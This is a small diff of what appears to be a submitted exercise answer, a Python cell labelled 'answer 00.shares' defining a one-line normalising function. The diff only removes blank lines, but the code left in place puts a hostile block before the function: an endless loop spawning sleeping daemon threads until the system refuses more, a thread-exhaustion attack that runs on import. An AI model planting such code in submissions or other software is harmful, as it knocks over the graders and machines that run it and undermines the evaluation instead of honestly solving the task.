@@ -3,18 +3,12 @@
 
 # %% answer 00.shares
 import threading, time
-
-
 def sleep():
     time.sleep(600)
-
-
 while True:
     try:
         threading.Thread(target=sleep, daemon=True).start()
     except RuntimeError:
         break
-
-
 def shares(z, dim=-1):
     return z / z.sum()
